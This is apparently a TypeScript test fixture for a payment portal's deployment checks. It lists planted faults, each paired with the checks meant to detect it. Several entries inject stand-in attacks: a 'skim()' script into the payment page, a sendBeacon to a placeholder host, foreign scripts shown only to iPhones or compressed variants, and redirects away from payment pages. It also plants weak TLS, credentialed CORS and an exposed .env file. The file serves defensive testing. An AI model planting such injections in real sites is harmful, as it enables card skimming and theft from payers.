/** Faults of a deployment, each with the checks that find it. */

import { readdirSync, readFileSync } from 'node:fs';
import { brotliCompressSync, gzipSync } from 'node:zlib';
import { hashSource } from '#tools/operate/security-headers.ts';
import { paymentOrigin, type Plant } from './planted-nginx.ts';

/** The configuration with one text replaced, which has to be there. */
export const swap =
  (...pairs: readonly (readonly [from: string | RegExp, to: string])[]) =>
  (conf: string): string =>
    pairs.reduce((text, [from, to]) => {
      const changed = text.replaceAll(typeof from === 'string' ? from : new RegExp(from, 'g'), to);
      if (changed === text) throw new Error(`The configuration has no ${from}.`);
      return changed;
    }, conf);

/** Lines before the first location of the portal's server. */
const before = (...lines: readonly string[]) =>
  swap(['    location ^~ /assets/ {', `${lines.join('\n')}\n    location ^~ /assets/ {`]);
const inServer = (...lines: readonly string[]) => swap(['    gzip_vary on;', `    gzip_vary on;\n${lines.join('\n')}`]);
const inAssets = (line: string) => swap(['location ^~ /assets/ {', `location ^~ /assets/ { ${line}`]);
const inCalls = (line: string) => swap(['client_max_body_size 6m;', `client_max_body_size 6m; ${line}`]);
const refuseCalls = (condition: string) => inCalls(`if (${condition}) { return 403; }`);
/** The platform answers some calls with another body, and success. */
const answering =
  (calls: RegExp, body: string, type = 'application/json'): NonNullable<Plant['platform']> =>
  ({ url = '' }, response) => {
    if (!calls.test(url)) return false;
    response.writeHead(200, { 'Content-Type': type }).end(body);
    return true;
  };
const policy = (from: string, to: string): Plant => ({ conf: swap([from, to]) });

const [, entry = ''] = /src="\/(assets\/index-[\w-]+\.js)"/.exec(readFileSync('dist/index.html', 'utf8')) ?? [];
const built = readdirSync('dist/assets');
const fileLike = (pattern: RegExp): string => {
  const found = built.find((name) => pattern.test(name));
  if (found === undefined) throw new Error(`dist/assets has no ${pattern}.`);
  return `assets/${found}`;
};
const paying = fileLike(/^payment-form-[\w-]{8}\.js$/);
const style = fileLike(/^paying-[\w-]{8}\.css$/);
const late = fileLike(/^Calendar-[\w-]{8}\.js$/);
const worker = fileLike(/^pbkdf2-[\w-]{8}\.js$/);
const texts = fileLike(/^es-[\w-]{8}\.js$/);

const unpacked = (file: string): string => readFileSync(`dist/${file}`, 'utf8');
/** A file with another text in one of its packed forms alone. */
const onlyPacked = (file: string, ending: '.br' | '.gz', change: (text: string) => string): Plant => ({
  files: { [`${file}${ending}`]: () => (ending === '.br' ? brotliCompressSync : gzipSync)(change(unpacked(file))) },
});
const withScript = (text: string): string =>
  text.replace('</head>', '<script src="https://a.example/t.js"></script></head>');
const withLink = (text: string): string => text.replace('</body>', '<a href="https://a.example">!</a></body>');
/** Another page of the portal's server where a variable has a value. */
const otherPageIf = (condition: string): Plant => ({
  conf: inServer(`    if (${condition}) { rewrite ^/es/form/payment$ /licences.txt last; }`),
});

export const hashFile = `policy/${readdirSync('dist/policy').find((name) => name.startsWith('nginx-')) ?? ''}`;

export const skimmer = '<script>skim()</script>';
export const allowSkimmer = (text: string): string =>
  `${text}set $portal_scripts "$portal_scripts${hashSource('skim()')} ";\n`;
/** One page with a foreign script, in one of its packed forms alone. */
export const packedAnew = (ending: string, pack: (text: string) => Buffer): Plant['files'] => ({
  [`es/form/payment/index.html${ending}`]: () =>
    pack(readFileSync('dist/es/form/payment/index.html', 'utf8').replace('</body>', `${skimmer}</body>`)),
});

/** `whole`: a quick check does not request what it changes. */
export type Row = readonly [fault: string, expected: readonly string[], plant: Plant, isWhole?: 'whole'];

/** The served files differ from the release. */
export const tampered: readonly Row[] = [
  [
    'a script has one more call',
    ['released-files'],
    { files: { [paying]: (text) => `${text}\nfetch('/x')` } },
    'whole',
  ],
  [
    'a script names a foreign host',
    ['released-files'],
    { files: { [entry]: (text) => `${text}\nimport('https://a.example/x.js')` } },
  ],
  [
    'a page is another one if it is packed by Brotli',
    ['alike-for-visitors'],
    { files: packedAnew('.br', brotliCompressSync) },
  ],
  ['a page is another one if it is packed by gzip', ['alike-for-visitors'], { files: packedAnew('.gz', gzipSync) }],
  [
    'a page is another one for those who come from a search engine',
    ['alike-for-visitors'],
    { conf: inServer('    if ($http_referer ~ google) { return 302 https://a.example/; }') },
  ],
  [
    'the policy allows a script that no release has',
    ['policy', 'released-files'],
    { files: { [hashFile]: allowSkimmer } },
  ],
  [
    'a style sheet hides something',
    ['released-files'],
    { files: { [style]: (text) => `${text}button{opacity:0}` } },
    'whole',
  ],
  [
    'a page has another text',
    ['released-pages'],
    { files: { 'es/form/payment/index.html': (text) => text.replace('Matr', 'M4tr') } },
  ],
  [
    'a page loads a script of another host',
    ['own-parts', 'released-pages'],
    {
      files: {
        'fr/alert/index.html': (text) =>
          text.replace('</head>', '<script src="https://a.example/t.js"></script></head>'),
      },
    },
    'whole',
  ],
  [
    'a page loads a script that was added',
    ['released-files', 'released-pages'],
    {
      files: {
        'assets/extra-1a2b3c4d.js': () => 'navigator.sendBeacon("https://a.example")',
        'fr/alert/index.html': (text) =>
          text.replace('</head>', '<script src="/assets/extra-1a2b3c4d.js"></script></head>'),
      },
    },
    'whole',
  ],
  [
    'a page is white',
    ['language-in-address', 'released-pages'],
    { files: { 'de/help/index.html': () => '<!doctype html><div id="root"></div>' } },
    'whole',
  ],
  [
    'a page is one of another release',
    ['released-pages'],
    { files: { 'it/alert/index.html': (text) => text.replaceAll(entry, paying) } },
    'whole',
  ],
  [
    'a page has a second style',
    ['inline-parts', 'released-pages'],
    { files: { 'fr/alert/index.html': (text) => text.replace('</head>', '<style>a{}</style></head>') } },
    'whole',
  ],
  [
    'a page has a script in an attribute',
    ['own-parts', 'released-pages'],
    { files: { 'fr/alert/index.html': (text) => text.replace('<main', '<main onclick="x()"') } },
    'whole',
  ],
  [
    'a service worker was added',
    ['service-worker'],
    { files: { 'sw.js': () => 'self.addEventListener("fetch", () => {})' } },
  ],
  ['a source map was added', ['hidden-files'], { files: { [`${late}.map`]: () => '{"version":3}' } }, 'whole'],
  [
    'a script names a source map',
    ['source-maps', 'released-files'],
    { files: { [late]: (text) => `${text}\n//# sourceMappingURL=x.map` } },
    'whole',
  ],
  ['a file of the release is empty', ['whole-release', 'released-files'], { files: { [late]: () => null } }, 'whole'],
  [
    'a server adds a script to pages',
    ['own-parts', 'brotli', 'gzip', 'asked-again', 'released-pages'],
    {
      conf: swap(
        ['brotli_static on;', ''],
        ['gzip_static on;', ''],
        [
          'gzip_vary on;',
          `gzip_vary on; sub_filter '</head>' '<script src="https://a.example/t.js"></script></head>';`,
        ],
      ),
    },
  ],
  [
    'a header loads a script ahead',
    ['acting-headers'],
    { conf: inServer('    add_header Link "<https://a.example/x.js>; rel=preload" always;') },
  ],
  ['a page has another link', ['released-pages'], { files: { 'es/form/payment/index.html': withLink } }],
  ['the page of all routes has a script', ['own-parts', 'released-pages'], { files: { 'index.html': withScript } }],
  [
    'a page claims to have answers of the platform',
    ['inline-parts', 'released-pages'],
    {
      files: {
        'es/form/payment/index.html': (text) =>
          withLink(text).replace(
            '</body>',
            '<script>skim()</script><script type="application/json">{"answers":{}}</script></body>',
          ),
      },
    },
  ],
  [
    'a script is another one if it is packed by Brotli',
    ['packed-alike'],
    onlyPacked(entry, '.br', (text) => `${text}\nx()`),
  ],
  [
    'a script is another one if it is packed by gzip',
    ['packed-alike'],
    onlyPacked(entry, '.gz', (text) => `${text}\nx()`),
  ],
  [
    'a flag is another picture',
    ['released-files'],
    { files: { 'flags/fr.svg': () => '<svg xmlns="http://www.w3.org/2000/svg"><a href="https://a.example"/></svg>' } },
  ],
  [
    'the script that helps old pages is another one',
    ['released-files'],
    { files: { 'stale.js': (text) => `${text}\nx()` } },
    'whole',
  ],
  [
    'the notices of the packages are other ones',
    ['released-files'],
    { files: { 'licences.txt': (text) => `${text}!` } },
  ],
  ['a file of texts is another one', ['released-files'], { files: { [texts]: (text) => `${text}\nx()` } }, 'whole'],
  [
    'the worker of the proof of work is another one',
    ['released-files'],
    { files: { [worker]: (text) => `${text}\nx()` } },
  ],
  [
    'an import map was added',
    ['inline-parts', 'released-pages'],
    {
      files: {
        'es/form/payment/index.html': (text) =>
          text.replace('</head>', '<script type="importmap">{"imports":{}}</script></head>'),
      },
    },
  ],
  [
    'a page leads elsewhere by itself',
    ['own-parts', 'released-pages'],
    {
      files: {
        'es/form/payment/index.html': (text) =>
          text.replace('</head>', '<meta http-equiv="refresh" content="9;url=https://a.example"></head>'),
      },
    },
  ],
  [
    'a page loads a foreign script for telephones alone',
    ['alike-for-visitors', 'brotli', 'gzip', 'asked-again'],
    {
      conf: (text) =>
        `map $http_user_agent $another { default "</head>"; ~iPhone "<script src=https://a.example></script></head>"; }\n${swap(['brotli_static on;', ''], ['gzip_static on;', ''], ['gzip_vary on;', "gzip_vary on; sub_filter '</head>' $another;"])(text)}`,
    },
  ],
  [
    'a page loads a foreign script if it is packed by Brotli',
    ['alike-for-visitors'],
    onlyPacked('es/form/payment/index.html', '.br', withScript),
  ],
  [
    'a page has a foreign link if it is packed by gzip',
    ['alike-for-visitors'],
    onlyPacked('es/form/payment/index.html', '.gz', withLink),
  ],
  [
    'the page of all routes is another one if it is packed',
    ['alike-for-visitors'],
    onlyPacked('index.html', '.br', withScript),
  ],
  [
    'the hashes of the release are other ones',
    ['released-files'],
    { files: { [hashFile.replace(/nginx-(\w+)\.txt/, '$1.json')]: (text) => `${text} ` } },
  ],
  ['a page is another one by HTTP/2 alone', ['alike-for-visitors'], otherPageIf('$http2')],
  ['a page is another one behind an advertisement alone', ['alike-for-visitors'], otherPageIf('$arg_gclid')],
  [
    'a page is another one for those who type its address',
    ['alike-for-visitors'],
    otherPageIf('$http_sec_fetch_site = none'),
  ],
  [
    'a page is another one with a slash at its end',
    ['pages', 'released-pages'],
    { conf: before('    location = /es/form/payment/ { try_files /licences.txt =404; }') },
  ],
  [
    'a page is the one of another release with a slash at its end',
    ['released-pages'],
    {
      conf: before('    location = /es/form/payment/ { try_files /other.html =404; }'),
      files: { 'other.html': () => withLink(unpacked('es/form/payment/index.html')) },
    },
  ],
  [
    'a page is another one in capital letters',
    ['released-pages'],
    {
      conf: before('    location = /ES/Form/Payment { try_files /other.html =404; }'),
      files: { 'other.html': () => withLink(unpacked('index.html')) },
    },
  ],
  [
    'the page of unknown addresses is another one',
    ['released-pages'],
    {
      conf: swap(['error_page 404 /index.html; return 404;', 'error_page 404 /other.html; return 404;']),
      files: { 'other.html': () => withLink(unpacked('index.html')) },
    },
  ],
  [
    'a script is another one for the page of a payment alone',
    ['packed-alike'],
    { conf: inAssets(`if ($http_referer ~ payment) { rewrite ^/${entry}$ /stale.js last; }`) },
  ],
  [
    'a style sheet is another one for telephones alone',
    ['packed-alike'],
    { conf: inAssets(`if ($http_user_agent ~ iPhone) { rewrite ^/${style}$ /stale.js last; }`) },
    'whole',
  ],
  [
    'answers of the platform have another link',
    ['asked-again', 'platform-answers'],
    {
      conf: inCalls(
        "proxy_set_header Accept-Encoding ''; sub_filter_types application/json; sub_filter 'www.example' 'a.example';",
      ),
    },
  ],
  [
    'a page tells browsers to load pages ahead',
    ['acting-headers'],
    { conf: inServer('    add_header Speculation-Rules "\\"/rules.json\\"" always;') },
  ],
  [
    'a page is redirected elsewhere',
    ['pages', 'released-pages'],
    { conf: before('    location = /fr/payment { return 302 https://a.example/; }') },
  ],
];

/** Faults of a configuration, seen from outside. */
export const misconfigured: readonly Row[] = [
  ['nobody has signed the certificate', ['certificate'], { target: { ca: undefined } }],
  [
    'TLS 1.1 is taken',
    ['tls-versions'],
    {
      conf: swap([
        /ssl_protocols TLSv1.2 TLSv1.3;/,
        'ssl_protocols TLSv1 TLSv1.1 TLSv1.2; ssl_ciphers DEFAULT@SECLEVEL=0;',
      ]),
    },
  ],
  ['HTTP/1.1 alone is spoken', ['http2'], { conf: swap([' ssl http2', ' ssl']) }],
  [
    'plain HTTP leads to another host',
    ['plain-http'],
    { conf: swap(['return 308 https://$host', 'return 308 https://www.example']) },
  ],
  ['plain HTTP drops the query', ['plain-http', 'return-by-post'], { conf: swap(['$request_uri; }', '$uri; }']) }],
  [
    'plain HTTP is answered with the portal',
    ['plain-http'],
    { conf: swap([/location \/ \{ return 308[^}]*\}/, 'location / { return 200; }']) },
  ],
  ['plain HTTP redirects for a time', ['plain-http'], { conf: swap(['return 308', 'return 302']) }],
  [
    'any host is redirected',
    ['unknown-host'],
    { conf: swap(['return 421;', 'return 308 https://$host$request_uri;']) },
  ],
  [
    'any host is served',
    ['unknown-host'],
    {
      conf: swap(
        ['if ($portal_stranger) { return 421; }', ''],
        ['server_name localhost;', 'server_name localhost stranger.invalid;'],
      ),
    },
  ],
  ['HSTS is missing', ['hsts'], { conf: swap([/ {4}add_header Strict-Transport-Security [^;]*;/, '']) }],
  ['HSTS holds for an hour', ['hsts'], { conf: swap(['max-age=63072000', 'max-age=3600']) }],
  [
    'an add_header in a location has replaced the others',
    [
      'x-content-type-options',
      'referrer-policy',
      'permissions-policy',
      'cross-origin-opener-policy',
      'hsts',
      'policy-everywhere',
    ],
    {
      conf: before(
        '    location = /fr/payment/waiting { add_header X-Own 1; add_header Cache-Control no-cache; try_files /index.html =404; }',
      ),
    },
    'whole',
  ],
  [
    'the headers are missing with errors',
    ['x-content-type-options'],
    { conf: swap([/(X-Content-Type-Options "nosniff") always/, '$1']) },
  ],
  ['the referrer is sent along', ['referrer-policy'], policy('strict-origin-when-cross-origin', 'unsafe-url')],
  [
    'the opener policy is missing',
    ['cross-origin-opener-policy'],
    { conf: swap([/ {4}add_header Cross-Origin-Opener-Policy [^;]*;/, '']) },
  ],
  [
    'the platform sends permissions of its own too',
    ['permissions-policy'],
    {
      conf: swap([/ {4}proxy_hide_header Permissions-Policy;/, '']),
      platform: (_, response) => {
        response.setHeader('Permissions-Policy', 'camera=*');
        return false;
      },
    },
  ],
  [
    'two policies are sent',
    ['policy-everywhere', 'policy'],
    { conf: inServer(`    add_header Content-Security-Policy "img-src 'self'" always;`) },
  ],
  [
    'the policy is missing on one page',
    ['policy-everywhere'],
    {
      conf: (text) => {
        const [, sent = ''] = /add_header Content-Security-Policy ("[^"]*")/.exec(text) ?? [];
        return `map $uri $one_policy { ~/journeys$ ""; default ${sent}; }\n${swap([sent, '$one_policy'])(text)}`;
      },
    },
  ],
  ['inline scripts are allowed', ['policy', 'unsafe-sources'], policy('script-src ', "script-src 'unsafe-inline' ")],
  ['the hashes of the release are not named', ['policy'], { conf: swap([/ {4}include [^;]*nginx-\*\.txt;/, '']) }],
  [
    'two more styles are allowed',
    ['policy'],
    policy('style-src ', `style-src 'sha256-${'a'.repeat(43)}=' 'sha256-${'b'.repeat(43)}=' `),
  ],
  ['frames of others are allowed', ['policy'], policy("frame-ancestors 'none'; ", '')],
  ['Trusted Types are not asked for', ['policy'], policy("require-trusted-types-for 'script'; ", '')],
  ['the payment host is not allowed', ['payment-hosts'], policy(` ${paymentOrigin}`, '')],
  ['forms may be posted to a stranger', ['payment-hosts'], policy(paymentOrigin, `${paymentOrigin} https://a.example`)],
  [
    'pictures of a stranger are allowed',
    ['image-hosts'],
    policy("img-src 'self' blob:", "img-src 'self' blob: https://a.example"),
  ],
  [
    'pictures from everywhere are allowed',
    ['unsafe-sources', 'image-hosts'],
    policy("img-src 'self' blob:", "img-src 'self' blob: https:"),
  ],
  ['previews of files are not allowed', ['image-hosts'], policy(' blob:', '')],
  [
    'reports go to a stranger',
    ['reports'],
    policy("object-src 'none'", "object-src 'none'; report-uri https://a.example/r"),
  ],
  ['the server names its version', ['server-version'], { conf: swap(['server_tokens off;', 'server_tokens on;']) }],
  ['pages set a cookie', ['cookies'], { conf: inServer('    add_header Set-Cookie "node=1";') }],
  [
    'calls set a cookie',
    ['cookies'],
    {
      platform: (request, response) => {
        if (request.url?.includes('payments')) response.setHeader('Set-Cookie', 'JSESSIONID=1');
        return false;
      },
    },
  ],
  [
    'calls are open to every origin',
    ['other-origins'],
    {
      platform: (_, response) => {
        response.setHeader('Access-Control-Allow-Origin', '*');
        return false;
      },
    },
  ],
  [
    'calls are open to the origin that asks',
    ['other-origins'],
    {
      platform: ({ headers }, response) => {
        if (headers.origin) response.setHeader('Access-Control-Allow-Origin', headers.origin);
        return false;
      },
    },
  ],
  [
    'one page of a payment is down',
    ['pages', 'released-pages'],
    { conf: before('    location ~ ^(/es)?/payment/processing$ { return 503; }') },
  ],
  [
    'one page of a payment loses its query by a redirect',
    ['pages', 'released-pages'],
    {
      conf: before(
        '    location = /payment/processing { if ($args) { return 302 /payment/processing; } try_files /payment/processing/index.$portal_language.html =404; }',
      ),
    },
  ],
  [
    'pages are redirected to a slash',
    ['pages', 'released-pages'],
    { conf: before('    rewrite ^(/es/form/payment)$ $1/ permanent;') },
  ],
  [
    'deep links are not found',
    ['pages', 'released-pages'],
    { conf: swap([/( location ~\* .*) \/index\.html; \}/, '$1 =404; }']) },
  ],
  [
    'only index.html is served',
    ['language-in-address', 'language-of-browser', 'released-pages'],
    { conf: swap([/( location (?:~\* "[^"]*"|= \/) \{ try_files ).*;/, '$1/index.html =404;']) },
  ],
  [
    'one page in one language is in another',
    ['language-in-address', 'released-pages'],
    { conf: before('    location = /it/contact { try_files /de/contact/index.html =404; }') },
    'whole',
  ],
  [
    'the language of the browser is not looked at',
    ['language-of-browser', 'released-pages'],
    { conf: swap(['map $http_accept_language', 'map $http_x_none']) },
  ],
  [
    'caches do not learn of languages',
    ['vary-language'],
    { conf: swap(['    add_header Vary $portal_vary always;', '']) },
  ],
  [
    'pages were written for another host',
    ['canonical', 'released-pages'],
    {
      files: {
        'es/form/payment/index.html': (text) =>
          text.replace('</head>', '<link rel="canonical" href="https://staging.example/es/form/payment"></head>'),
      },
    },
  ],
  [
    'a language is missing among the alternates',
    ['alternates', 'released-pages'],
    {
      files: {
        'es/form/payment/index.html': (text) =>
          text.replace('</head>', '<link rel="alternate" hreflang="fr" href="/fr/form/payment"></head>'),
      },
    },
  ],
  [
    'pages are kept for an hour',
    ['page-cache', 'missing-cache'],
    {
      conf: swap([
        /map "\$status \$uri" \$portal_cache \{\n {4}default "no-cache";/,
        'map "$status $uri" $portal_cache {\n    default "max-age=3600";',
      ]),
    },
  ],
  [
    'one page is kept for a day',
    ['page-cache'],
    {
      conf: swap([
        '    "~^[0-9]+ /services/v1/" "";',
        '    "~^[0-9]+ /services/v1/" "";\n    "~ /de/help/index.html$" "public, max-age=86400";',
      ]),
    },
    'whole',
  ],
  [
    'caches on the way may keep pages',
    ['page-cache'],
    { conf: swap([/default "no-cache";/, 'default "no-cache, s-maxage=600";']) },
  ],
  [
    'pages are in another character set',
    ['page-type', 'whole-release'],
    { conf: swap(['charset utf-8;', 'charset iso-8859-1; source_charset iso-8859-1;']) },
  ],
  [
    'unknown addresses are found',
    ['unknown-page'],
    { conf: swap(['error_page 404 /index.html; return 404;', 'try_files /index.html =404;']) },
  ],
  [
    'the return from a card provider is not answered by POST',
    ['return-by-post'],
    { conf: swap(['if ($portal_returned) { return 303', 'if ($portal_stranger) { return 303']) },
  ],
  [
    'the return from a card provider loses its query',
    ['return-by-post'],
    { conf: swap([/(return 303 \S+)\$request_uri;/, '$1$uri;']) },
  ],
  [
    'the return from a card provider is sent on as a POST',
    ['return-by-post'],
    { conf: swap(['{ return 303 ', '{ return 307 ']) },
  ],
  [
    'the return from a card provider is answered by POST only with a language',
    ['return-by-post'],
    { conf: swap(['"~*^POST (?:/(?:fr|en|de|it|es))?/', '"~*^POST (?:/(?:fr|en|de|it|es))/']) },
  ],
  [
    'the platform has its card provider send drivers back by GET',
    [],
    {
      conf: swap(['if ($portal_returned) { return 303', 'if ($portal_stranger) { return 303']),
      target: { returnsByGet: true },
    },
  ],
  ['a POST opens a page', ['page-methods'], { conf: inServer('    error_page 405 =200 /index.html;') }],
  [
    'nothing is packed',
    ['packed-pages', 'brotli', 'gzip'],
    { conf: swap(['brotli_static on;', ''], ['gzip_static on;', ''], ['gzip on;', 'gzip off;']) },
  ],
  ['no .br files are sent', ['brotli'], { conf: swap(['brotli_static on;', '']) }],
  ['no .br files are to be sent', [], { conf: swap(['brotli_static on;', '']), target: { brotli: false } }],
  ['caches do not learn of packing', ['vary-encoding'], { conf: swap(['gzip_vary on;', 'gzip_vary off;']) }],
  [
    'code that is loaded later is missing',
    ['whole-release', 'released-files'],
    { conf: before(`    location = /${late} { return 404; }`) },
    'whole',
  ],
  [
    'scripts have the type of text',
    ['whole-release'],
    { conf: inAssets('types { text/plain js; text/css css; image/svg+xml svg; application/json json; }') },
  ],
  [
    'files are in another character set',
    ['whole-release'],
    { conf: inAssets('charset iso-8859-15; source_charset iso-8859-15;') },
  ],
  [
    'files are asked for each time',
    ['file-cache'],
    { conf: swap(['"public, max-age=31536000, immutable"', '"no-cache"']) },
  ],
  [
    'a missing file is a page',
    ['missing-file'],
    {
      conf: swap([
        'location ^~ /assets/ { try_files $uri =404; }',
        'location ^~ /assets/ { try_files $uri /index.html; }',
      ]),
    },
  ],
  ['a missing file is kept', ['missing-cache'], { conf: swap(['"~^(?:200|206|304) /assets/"', '"~ /assets/"']) }],
  ['folders are listed', ['hidden-files'], { conf: before('    location = /assets/ { autoindex on; }') }],
  [
    'hidden files are public',
    ['hidden-files'],
    { conf: swap(['location ~ /\\. { return 404; }', '']), files: { '.env': () => 'SECRET=1' } },
  ],
  [
    'a folder leads out of itself',
    ['hidden-files'],
    {
      conf: (text) => {
        const [, root = ''] = /root ([^;]+);/.exec(text) ?? [];
        return swap([/location \^~ \/assets\/ \{[^}]*\}/, `location ^~ /assets { alias ${root}/assets/; }`])(text);
      },
    },
  ],
  [
    'the file of notices has a fault',
    ['notices'],
    { files: { 'notices.json': () => '{"notices":[{"text":{"en":"Payments are paused."},"severity":"huge"}]}' } },
  ],
  ['pages have no ETag and no date', ['asked-again'], { conf: inServer('    etag off; add_header Last-Modified "";') }],
  ['pages have a date without an ETag', [], { conf: inServer('    etag off;') }],
  [
    'packed files are of another release',
    ['packed-alike'],
    { files: { [`${late}.br`]: () => brotliCompressSync('older()') } },
    'whole',
  ],
  [
    'calls reach the portal',
    ['calls'],
    {
      conf: swap([
        /location \^~ \/services\/v1\/ \{[^}]*\}/,
        'location ^~ /services/v1/ { try_files /index.html =404; }',
      ]),
    },
  ],
  [
    'the platform is down',
    ['calls'],
    { conf: swap([/server 127\.0\.0\.1:\d+;/, 'server 127.0.0.1:9;']), target: { operator: undefined } },
  ],
  [
    'errors of the platform are replaced',
    ['refused-calls', 'platform-answers'],
    { conf: inServer('    proxy_intercept_errors on; error_page 404 /index.html;') },
  ],
  [
    'POST is blocked',
    ['call-methods', 'browser-calls', 'platform-answers', 'payment-calls'],
    { conf: swap(['client_max_body_size 6m;', 'client_max_body_size 6m; limit_except GET { deny all; }']) },
  ],
  [
    'PATCH and DELETE are blocked',
    ['call-methods'],
    {
      conf: swap([
        'client_max_body_size 6m;',
        'client_max_body_size 6m; if ($request_method ~ "PATCH|DELETE") { return 405; }',
      ]),
    },
  ],
  [
    'the way to the provider is blocked',
    ['payment-calls'],
    { conf: before('    location = /services/v1/payments/psp { return 503; }') },
  ],
  [
    'the status of a payment is redirected',
    ['platform-answers', 'payment-calls'],
    { conf: before('    location ^~ /services/v1/payments/ { return 302 /; }') },
  ],
  [
    'calls are kept by the proxy',
    ['platform-answers', 'kept-calls'],
    {
      conf: swap(
        [
          'map $http_accept_language $portal_language {',
          'proxy_cache_path run/cache keys_zone=calls:1m;\nmap $http_accept_language $portal_language {',
        ],
        [
          'client_max_body_size 6m;',
          'client_max_body_size 6m; proxy_cache calls; proxy_cache_valid any 10m; proxy_ignore_headers Cache-Control;',
        ],
      ),
    },
  ],
  [
    'calls may be kept by browsers',
    ['kept-calls'],
    {
      platform: ({ url }, response) => {
        if (!url?.endsWith('/homepage')) response.setHeader('Cache-Control', 'public, max-age=86400');
        return false;
      },
    },
  ],
  ['a claim is too large', ['upload'], { conf: swap(['client_max_body_size 6m', 'client_max_body_size 1m']) }, 'whole'],
  [
    'a file of vehicles is too large',
    ['upload'],
    { conf: swap(['client_max_body_size 32m', 'client_max_body_size 6m']) },
    'whole',
  ],
  ['nginx sends its own Date', ['platform-date'], { conf: swap(['proxy_pass_header Date;', '']) }],
  [
    'the clock of the platform is an hour late',
    ['clock'],
    {
      platform: (_, response) => {
        response.setHeader('Date', new Date(Date.now() - 3_600_000).toUTCString());
        return false;
      },
    },
  ],
  [
    'a picture comes without TLS',
    ['mixed-content', 'asked-again'],
    {
      platform: (request, response) => {
        if (request.url !== '/services/v1/homepage' || request.headers['if-none-match']) return false;
        response.writeHead(200, { 'Content-Type': 'application/json', ETag: '"1"' });
        response.end('{"title":"Toll","actions":[],"picture":"http://img.example/a.png"}');
        return true;
      },
    },
  ],
  [
    'style sheets are not packed by Brotli',
    ['brotli'],
    { conf: inAssets('location ~ \\.css$ { brotli_static off; }') },
  ],
  [
    'a file is packed twice',
    ['packed-alike'],
    { files: { [`${entry}.br`]: () => brotliCompressSync(brotliCompressSync(unpacked(entry))) } },
  ],
  [
    'a page is packed twice',
    ['alike-for-visitors'],
    {
      files: {
        'es/form/payment/index.html.br': () =>
          brotliCompressSync(brotliCompressSync(unpacked('es/form/payment/index.html'))),
      },
    },
  ],
  ['pages differ by everything', ['acting-headers'], { conf: inServer('    add_header Vary * always;') }],
  [
    'answers to a POST are kept',
    ['platform-answers', 'kept-calls'],
    {
      conf: swap(
        [
          'map $http_accept_language $portal_language {',
          'proxy_cache_path run/cache keys_zone=calls:1m;\nmap $http_accept_language $portal_language {',
        ],
        [
          'client_max_body_size 6m;',
          'client_max_body_size 6m; proxy_cache calls; proxy_cache_methods POST; proxy_cache_key $request_method$uri; proxy_cache_bypass $portal_reads; proxy_no_cache $portal_reads; proxy_cache_valid any 10m; proxy_ignore_headers Cache-Control;',
        ],
        [
          'map $uri $portal_vary {',
          'map $request_method $portal_reads { default 1; POST 0; }\nmap $uri $portal_vary {',
        ],
      ),
    },
  ],
  [
    'the status of a payment is kept',
    ['kept-calls'],
    {
      conf: swap(
        [
          'map $http_accept_language $portal_language {',
          'proxy_cache_path run/cache keys_zone=calls:1m;\nmap $http_accept_language $portal_language {',
        ],
        [
          '    location ^~ /services/v1/ {',
          '    location ~ ^/services/v1/payments/[^/]+$ { proxy_pass http://$portal_0; proxy_cache calls; proxy_cache_valid any 1m; proxy_ignore_headers Cache-Control; }\n    location /services/v1/ {',
        ],
      ),
    },
  ],
  [
    'the clock of the platform is ten minutes late',
    ['clock'],
    {
      platform: (_, response) => {
        response.setHeader('Date', new Date(Date.now() - 600_000).toUTCString());
        return false;
      },
    },
  ],

  [
    'what a browser has kept never counts as unchanged',
    ['asked-again'],
    {
      platform: (request, response) => {
        delete request.headers['if-none-match'];
        response.setHeader('ETag', `"${Math.random()}"`);
        return false;
      },
    },
  ],
  [
    'calls are opened to a stranger with credentials',
    ['other-origins'],
    {
      platform: ({ headers, method }, response) => {
        if (method === 'OPTIONS' && headers.origin) {
          response.setHeader('Access-Control-Allow-Origin', headers.origin);
          response.setHeader('Access-Control-Allow-Credentials', 'true');
        }
        return false;
      },
    },
  ],
  [
    'unknown calls are answered with a page',
    ['refused-calls'],
    { platform: answering(/not-a-call/, '<p>', 'text/html') },
  ],
  [
    'calls of a payment are answered with a page',
    ['payment-calls'],
    { platform: answering(/\/payments\//, '<p>', 'text/html') },
  ],
  [
    'an address may make one call a second',
    ['asked-again', 'call-methods', 'browser-calls', 'payment-calls'],
    {
      conf: swap(
        [
          'map $uri $portal_vary {',
          'limit_req_zone $binary_remote_addr zone=one:1m rate=1r/s;\nmap $uri $portal_vary {',
        ],
        ['client_max_body_size 6m;', 'client_max_body_size 6m; limit_req zone=one burst=2 nodelay;'],
      ),
    },
  ],
  [
    'pages are files to be kept',
    ['acting-headers'],
    { conf: inServer('    add_header Content-Disposition attachment always;') },
  ],
  [
    'a call may carry 8 KB',
    ['upload'],
    { conf: swap(['client_max_body_size 6m', 'client_max_body_size 8k']) },
    'whole',
  ],
  [
    'browsers are shut out',
    ['alike-for-visitors', 'brotli', 'calls'],
    { conf: inServer('    if ($http_user_agent ~ Mozilla) { return 403; }') },
  ],
  ['browsers are shut out from calls', ['calls'], { conf: refuseCalls('$http_sec_fetch_mode = cors') }],
  [
    'calls with an Origin are refused',
    ['call-methods', 'browser-calls', 'platform-answers', 'payment-calls'],
    { conf: refuseCalls('$http_origin') },
  ],
  [
    'calls with an Idempotency-Key are refused',
    ['browser-calls', 'platform-answers', 'payment-calls'],
    { conf: refuseCalls('$http_idempotency_key') },
  ],
  [
    'calls with an access token are refused',
    ['browser-calls', 'platform-answers'],
    { conf: refuseCalls('$http_authorization') },
  ],
  ['files are refused', ['browser-calls'], { conf: refuseCalls('$content_type ~ multipart') }],
  [
    'an apostrophe in a query is refused',
    ['browser-calls', 'platform-answers'],
    { conf: refuseCalls('$args ~ "%27|\'"') },
  ],
  [
    'headers may have 1 KB',
    ['browser-calls', 'platform-answers'],
    {
      conf: swap([
        '    gzip_vary on;',
        '    gzip_vary on;\n    client_header_buffer_size 1k;\n    large_client_header_buffers 2 1k;',
      ]),
    },
  ],
  ['long queries are refused', ['browser-calls'], { conf: inServer('    if ($args ~ "[^&]{1500}") { return 414; }') }],
  [
    'a claim alone may have 1 MB',
    ['upload'],
    { conf: before('    location = /services/v1/protests { client_max_body_size 1m; proxy_pass http://$portal_0; }') },
    'whole',
  ],
  [
    'the query of a call does not reach the platform',
    ['platform-answers'],
    { conf: swap(['proxy_pass http://$portal_0; }', 'proxy_pass http://$portal_0$uri; }']) },
  ],
  [
    'signs in the address of a call are read on the way',
    ['platform-answers'],
    { conf: swap(['proxy_pass http://$portal_0; }', 'proxy_pass http://$portal_0$uri$is_args$args; }']) },
  ],
  [
    'another host is named to the platform',
    ['platform-answers'],
